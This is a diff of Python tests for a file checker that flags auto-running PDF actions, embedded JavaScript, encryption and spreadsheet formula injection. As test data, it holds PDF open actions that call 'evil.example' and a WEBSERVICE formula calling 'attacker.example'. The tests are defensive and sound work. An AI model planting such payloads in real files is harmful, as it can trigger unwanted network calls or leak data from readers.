@@ -794,7 +794,7 @@ def encrypted_pdf() -> bytes:
     # Twenty-second round: each reader takes its own table (the script ran in Chromium), so the
     # file is also read with none; and an encrypted file is said to be one.
     (two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /OpenAction " + SCRIPT + b" >>",
-                    b"<< /Type /Catalog /Pages 3 0 R >>"), "holds OpenAction"),
+                    b"<< /Type /Catalog /Pages 3 0 R >>"), "holds JavaScript"),
     (two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /Names << /JavaScript 5 0 R >> >>",
                     b"<< /Type /Catalog /Pages 3 0 R >>"), "holds JavaScript"),
     (encrypted_pdf(), "is encrypted (protected against copying, printing or editing)"),
@@ -1064,6 +1064,18 @@ def test_where_a_pdf_opens_is_no_action_and_csv_notes_are_data():
     from resource_library.files import _formula_problem, csv_formula_problem, pdf_problem
     assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction [3 0 R /Fit] >>"), *PAGES[1:]],
                                b"<< /Size 4 /Root 1 0 R >>")) is None
+    # Thirty-eighth round: hyperref's default is a GoTo action to the first page, by reference; an open
+    # action that goes anywhere else, or goes on to another, still runs.
+    go_to = b"<< /S /GoTo /D [3 0 R /Fit] >>"
+    assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction 4 0 R >>"), *PAGES[1:], go_to],
+                               b"<< /Size 5 /Root 1 0 R >>")) is None
+    assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction " + go_to + b" >>"), *PAGES[1:]],
+                               b"<< /Size 4 /Root 1 0 R >>")) is None
+    for action in (b"<< /S /URI /URI (https://evil.example/) >>", b"<< /S /Named /N /Print >>",
+                   go_to.replace(b" >>", b" /Next << /S /URI /URI (https://evil.example/) >> >>"),
+                   b"<< /S /GoTo /D (x) /F (other.pdf) >>"):
+        assert "OpenAction" in pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction 4 0 R >>"), *PAGES[1:],
+                                                    action], b"<< /Size 5 /Root 1 0 R >>")), action
     assert csv_formula_problem(b'a,"- pending | review","- urgent! ask [finance]!","- image of the site"\n') is None
     assert "WEBSERVICE" in _formula_problem('_xlfn.MAP({"https://attacker.example/x"},_xleta.WEBSERVICE)')
     assert _formula_problem("SUM(Register)") is None
